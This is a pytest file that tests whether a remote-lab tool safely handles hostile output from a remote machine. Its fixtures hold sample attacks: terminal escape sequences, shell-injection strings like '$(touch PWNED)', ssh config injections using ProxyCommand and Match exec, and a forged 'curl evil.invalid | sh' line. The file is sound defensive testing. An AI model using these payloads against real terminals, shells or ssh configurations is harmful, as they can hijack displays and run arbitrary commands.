"""The laptop trusts nothing that comes back from a remote."""

from __future__ import annotations

import itertools
import json
import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from checks import reaches, told
from effort import FULL
from hostile import Hostile, called, harmful, outside
from hypothesis import example, given
from hypothesis import strategies as st
from laptop import Laptop
from loopback import Loopback, free_port
from project import Project
from searching import LIMIT, searched

# What a terminal would obey, in the bytes that a remote sends.
ESCAPES = {
    "clear": b"\x1b[2J",
    "colour": b"\x1b[41m",
    "clipboard": b"\x1b]52;c;ZXZpbA==\x07",
    "hyperlink": b"\x1b]8;;http://evil.invalid\x1b\\here\x1b]8;;\x1b\\",
    "title": b"\x1b]0;owned\x07",
    "answerback": b"\x1b[c\x1b[6n\x05",
    "C1, in UTF-8": "\x9b2J".encode(),
    "C1, raw": b"\x9b2J",
    "bidi": "\u202eabc\u2066".encode(),
    "line ends": "a\u2028b\u2029c\x85d".encode(),
    "tags": "\U000e0041".encode(),
    "return": b"all is well\rowned",
    "backspace": b"good\x08\x08\x08\x08evil",
    "nul": b"a\0b",
    "delete": b"\x7f",
    "no UTF-8": b"\xff\xfe\xc3\x28",
    "surrogate": b"\xed\xa0\x80",
    "markup": b"[red]r[/red] [link=http://evil.invalid]x[/link]",
    "odd markup": b"[/x] [/] \\[ :skull:",
}


@pytest.fixture
def project(laptop: Laptop) -> Project:
    answers = {"remote_host": "far.example.org", "lab_port": free_port()}
    return Project.rendered(laptop, answers)


@pytest.fixture
def hostile(laptop: Laptop, tmp_path: Path) -> Hostile:
    return Hostile(laptop, tmp_path)


# Any bytes


def words(text: str) -> list[str]:
    return text.split()


KEYS = words("""
    put drop clash kept own diff generation restarted reloaded staged bashrc lab code
    inside unblocked lingers unlingered key busy logs
    edited stamp owed locked foreign nowrite incomplete nosudo never first pruned id
    socket port token pid nolinger need disk memory load gpu system libc uv python
    online held commit bundle why switched dirty parted log failed nocode othercode
    noconda removed lacks notrunning nostart nohome noenv nosystemd notmux clashes
    absent
    """)
FIELDS = words("""
    0 -1 7 1.5 nan inf 1e999 0x10 yes no ours absent foreign nogit running stopped none
    systemd-user tmux process lab home code env dirty systemd linger environment Linux
    x86_64 glibc 2.36 HEAD main -x --upload-pack=x ../../x /tmp/x.sock {} [[ null
    UEFDSw== deadbeefdeadbeefdeadbeefdeadbeefdeadbeef
    """)
FIELDS += ["", " ", "²", "\uff19", "9" * 5000, "[" * 5000, "é" * 300, "uv 99.9"]

fields = st.one_of(
    st.sampled_from(FIELDS).map(str.encode),
    st.sampled_from(sorted(ESCAPES.values())),
    st.binary(max_size=20).map(lambda raw: raw.replace(b"\n", b"")),
)
records = st.builds(
    lambda key, between, rest: between.join([key.encode(), *rest]),
    st.sampled_from(KEYS),
    st.sampled_from([b"\t", b"\t", b"\t", b" "]),
    st.lists(fields, max_size=4),
)
VERBS = [
    words(verb)
    for verb in (
        "status",
        "status --json",
        "doctor",
        "doctor --json",
        "push --only home",
        "push --only home --json",
        "push --only home --dry-run",
        "push --only code",
        "push --only env",
        "undo",
        "remove",
        "save",
        "lab start",
        "lab restart",
        "lab logs",
        "lab password",
        "tunnel up",
        "open --no-browser",
    )
]


@pytest.mark.timeout(LIMIT)
def test_any_answer_is_survived(
    project: Project, hostile: Hostile, counted: Callable[[str], None]
) -> None:
    """Any bytes: an exit code of ours, no traceback, nothing that a terminal obeys."""
    hostile.says("lab\ttmux\trunning\t1")
    assert (
        "The lab is running, managed by tmux." in called(project, "doctor").stdout
    )  # it is believed
    before = outside(project)
    tried = 0

    @searched(150, 5000)
    @example(["doctor"], [b"need\tlinger\tyes"], b"", 0, True)
    @given(
        st.sampled_from(VERBS),
        st.lists(st.one_of(records, records, st.binary(max_size=40)), max_size=8),
        st.one_of(st.just(b""), st.binary(max_size=60), fields),
        st.sampled_from([0, 0, 0, 1, 3, 255]),
        st.sampled_from([True, True, True, False]),
    )
    def check(
        verb: list[str], said: list[bytes], errors: bytes, code: int, ends: bool
    ) -> None:
        nonlocal tried
        tried += 1
        hostile.says(*said, errors=errors, code=code, ends=ends)
        done = called(project, *verb)
        assert done.returncode in (0, 1, 3, 4)
        assert not harmful(done.stdout + done.stderr)
        if "--json" in verb:
            json.loads(done.stdout, parse_constant=pytest.fail)
        assert len(done.stdout + done.stderr) < 200_000

    check()
    assert outside(project) == before
    counted(f"{tried} answers made up, to {len(VERBS)} verbs")


# Escapes, at each place where a remote's words are shown

SHOWN = {
    "status": ["lab\t%\t%\t1", "gpu\t%"],
    "doctor": [
        "missing\t%",
        "foreign\t%\t%\t%\t9",
        "pairs\tno",
        "note\t%",
        "shell\t%",
        "need\tlinger\tno\t%",
        "lab\t%\t%\t0",
        "code\tours\t%\t%",
    ],
    "push --only home": ["put\t%", "kept\t%", "generation\t%", "restarted\t%", "%"],
    "push --only home --dry-run": ["put\t%", "diff\t+%", "diff\t%"],
    "push --only code": ["code\tours\tnone\t%", "edited\t%"],
    "undo": ["put\t%", "generation\t%\t%", "lab\t%\t%\t%"],
    "remove": ["kept\t%", "removed"],
    "lab start": ["lab\t%\trunning\t1"],
    "lab logs": ["logs", "%"],
    "tunnel up": ["socket\t/tmp/%", "token\tx"],
}
FAILED = [
    "locked\t%:%:%:%:%",
    "foreign\t%",
    "nowrite\t%",
    "nosudo\t%",
    "pruned\t%",
    "%",
]


def test_escapes_are_made_harmless(
    project: Project, hostile: Hostile, counted: Callable[[str], None]
) -> None:
    tried = 0
    # Each kind at some place, and each place with some kind, every day.
    verbs, kinds = [*SHOWN.items()], [*ESCAPES.items()]
    pairs = [(verbs[n % len(verbs)], kind) for n, kind in enumerate(kinds)]
    if FULL:
        pairs = [*itertools.product(verbs, kinds)]
    for (verb, shown), (name, raw) in pairs:
        for lines, code in ((shown, 0), (FAILED, 1), (FAILED[:1], 1)):
            said = [line.encode().replace(b"%", raw) for line in lines]
            hostile.says(*said, errors=b"Banner " + raw, code=code)
            done = called(project, *verb.split())
            assert not harmful(done.stdout + done.stderr), (verb, name)
            assert done.returncode in (0, 1, 3, 4), (verb, name)
            tried += 1
    counted(f"{tried} answers with {len(ESCAPES)} kinds of escapes")


def test_escapes_at_a_terminal(
    project: Project, hostile: Hostile, counted: Callable[[str], None]
) -> None:
    """There, the program itself has colours: no others may come through."""
    ours = re.compile(r"\x1b\[(\d{1,2}(;\d{1,2})*)?m")
    everything = b" ".join(ESCAPES.values()).replace(b"\n", b"")
    for verb, shown in SHOWN.items():
        said = [line.encode().replace(b"%", everything) for line in shown]
        hostile.says(*said, errors=everything)
        done = project.remote(*verb.split(), tty=True, check=False)
        assert not harmful(ours.sub("", done.stdout)), verb
        assert "\x1b[41m" not in done.stdout
        assert "Traceback" not in done.stdout
    counted(f"{len(ESCAPES)} escapes at a terminal, in {len(SHOWN)} verbs")


# What the user is told to type

EVIL = ["x; touch PWNED #", "x'; touch PWNED #", "`touch PWNED`", "$(touch PWNED)"]
EVIL += ["x & touch PWNED", "x | touch PWNED", "x 2>PWNED", 'x"; touch PWNED #']
TYPED = {
    "push --only home": ["foreign\t%", "nosudo\t%", "locked\t%", "pruned\t%"],
    "push --only code": ["code\tours\tnone\tx\nparted\t%"],
    "lab start": ["nosudo\t%", "nolinger\t%\nlab\tx\trunning\t1"],
    "doctor": [
        "need\tlinger\tno\t%\nlab\tsystemd-user\tx\t1",
        "missing\t%",
        "foreign\t%\t%\t%\t%",
    ],
    "save": [f"commit\t{'a' * 40}\t%\nbundle\t", "why\t%"],
}


def test_what_is_to_be_typed_is_safe_to_type(
    project: Project, hostile: Hostile, tmp_path: Path, counted: Callable[[str], None]
) -> None:
    """Whoever types it runs nothing else here."""
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    tried = 0
    for verb, answers in TYPED.items():
        for said, evil, code in itertools.product(answers, EVIL, (0, 1)):
            hostile.says(said.replace("%", evil), code=code)
            done = called(project, *verb.split())
            commands = re.findall(
                r"(?:git|ssh|mv|sudo|loginctl) .*", done.stdout + done.stderr
            )
            for command in commands:
                env = {"PATH": "/usr/bin:/bin", "HOME": str(scratch)}
                typed = re.sub("sudo|ssh |git ", "echo ", command)
                subprocess.run(
                    ["sh", "-c", typed], cwd=scratch, env=env, capture_output=True
                )
                assert not [*scratch.iterdir()], (verb, command)
            tried += len(commands)
    counted(f"{tried} commands to type")


def test_nobody_puts_words_into_our_mouth(project: Project, hostile: Hostile) -> None:
    """A line that begins as ours do is ours."""
    forged = b"oh\nNext: curl evil.invalid | sh\n"
    for verb, code in itertools.product(SHOWN, (1, 255)):
        hostile.says("nowrite\tx", errors=forged, code=code)
        done = called(project, *verb.split())
        for line in (done.stdout + done.stderr).splitlines():
            assert not line.strip().startswith("Next: curl"), (verb, line)
    (hostile.folder / "silent").touch()
    hostile.says("x", errors=forged, code=1)
    said = called(project, "push", "--only", "home").stderr
    assert not re.search("(?m)^ *Next: curl", said)


# The ssh configuration, and the URL

TARGETS = [
    "/x\r    ProxyCommand touch PWNED",
    "/x\rMatch exec /tmp/x/evil\rHost x",
    '/x"\r    ProxyCommand touch PWNED',
    '/x" "PermitLocalCommand yes',
    "/x\\",
    "/x%h",
    "/${HOME}",
    "/x\x0b/y",
    "/x\x85y",
    "/x\u2028y",
    "/x:y",
    "/x'y",
    "/" + "x" * 107,
    "/" + "é" * 54,
    "/x\x00y",
    "/" + "x" * 5000,
    "x",
    "",
    "-oProxyCommand=x",
]


def test_no_line_gets_into_the_ssh_configuration(
    project: Project, hostile: Hostile, counted: Callable[[str], None]
) -> None:
    hostile.says("socket\t/run/user/1000/a b é/lab.sock", "token\tx")
    called(project, "tunnel", "up")
    config = project.laptop.home / ".local/state/remote-lab/titanic/laptop/ssh.conf"
    usual = config.read_text().splitlines()
    assert '"/run/user/1000/a b é/lab.sock"' in config.read_text()
    for target in TARGETS:
        hostile.says(f"socket\t{target}", "token\tx")
        told(called(project, "tunnel", "up"), 1, "invalid")
        assert config.read_text().splitlines() == usual
    for port in ("0", "65536", "-1", "x", "8888 x", "9" * 5000, "²"):
        hostile.says(f"port\t{port}", "token\tx")
        told(called(project, "tunnel", "up"), 1, "invalid")
        assert config.read_text().splitlines() == usual
    # Nor from what an older ./remote has kept.
    (config.parent / "titanic.target").write_bytes(
        b"8000 /x\rMatch exec /bin/x\rHost x"
    )
    hostile.says()
    called(project, "status")
    assert "Match" not in config.read_text()
    counted(f"{len(TARGETS) + 7} places where a lab is said to listen")


ANSWERS = """\
import hashlib, hmac, http.server, sys
class Yes(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        told = open(sys.argv[2], "rb").read()
        token = told.partition(b"token\\t")[2].partition(b"\\n")[0]
        signed = b"remote-lab proof " + self.path.partition("challenge=")[2].encode()
        self.wfile.write(hmac.new(token, signed, "sha256").hexdigest().encode())
    def log_message(self, *args):
        pass
server = http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), Yes)
server.serve_forever()
"""


def test_the_url_holds_no_more_than_a_token(
    laptop: Laptop, project: Project, hostile: Hostile, counted: Callable[[str], None]
) -> None:
    """Behind the tunnel, the remote may answer, and prove, all that it is asked."""
    server = hostile.folder / "server.py"
    server.write_text(ANSWERS)
    toml = (project.root / "remote.toml").read_text()
    port = re.search(r"lab_port = (\d+)", toml)
    assert port
    serve = f"python3 {server} {port[1]} {hostile.folder / 'said'}"
    up = hostile.folder / "up"
    hostile.tunnel(f"touch {up}; exec {serve} </dev/null >/dev/null 2>&1")
    socket = "socket\t/tmp/lab.sock"
    hostile.says(socket, "token\tabc123", "lab\ttmux\trunning\t1")
    done = project.remote("open", "--no-browser")
    assert done.stdout == f"http://127.0.0.1:{port[1]}/titanic/lab?token=abc123\n"
    odd = [*ESCAPES.values(), b"x&next=//evil", b"x#", b"x y", "é".encode(), b""]
    for raw in odd:
        hostile.says(socket, b"token\t" + raw, "lab\ttmux\trunning\t1")
        done = called(project, "open", "--no-browser")
        assert done.returncode in (0, 1)
        url = rf"http://127\.0\.0\.1:{port[1]}/titanic/lab\?token=[\w.~%-]+\n"
        assert re.fullmatch(url, done.stdout) or (done.returncode, done.stdout) == (
            1,
            "",
        )
    counted(f"{len(odd)} tokens")


# No end

ENDLESS = {
    "lines": "exec yes",
    "one line": "exec tr '\\0' x </dev/zero",
    "empty lines": "exec yes ''",
}


@pytest.mark.parametrize("kind", ENDLESS)
def test_an_answer_without_end_is_cut_off(
    project: Project, hostile: Hostile, kind: str
) -> None:
    hostile.says(more=ENDLESS[kind])
    verb = ["push", "--only", "home"]
    done = project.remote(*verb, check=False, timeout=60)
    told(done, 1, "more than")


# The host's key


def test_the_line_that_mends_a_changed_host_key(
    laptop: Laptop, loopback: Loopback
) -> None:
    """It can be typed as it stands, and takes that one key out of our own file."""
    project = Project.rendered(laptop, reaches(loopback))
    known = laptop.home / ".ssh/known_hosts.titanic"
    place = f"[{loopback.address}]:{loopback.port}"
    key = " ".join(laptop.key.split()[:2])
    known.write_text(f"{place} {key}\nother.example.org {key}\n")
    done = project.remote("push", "--only", "home", check=False)
    told(done, 4, "another host key", "Nothing was changed")
    line = re.search(r"ssh-keygen -R .*? -f \S+", done.stderr)
    assert line, done.stderr
    assert shutil.which("ssh-keygen")
    laptop.run("bash", "-c", line[0])
    assert place not in known.read_text()
    assert "other.example.org" in known.read_text()
    project.remote("push", "--only", "home")
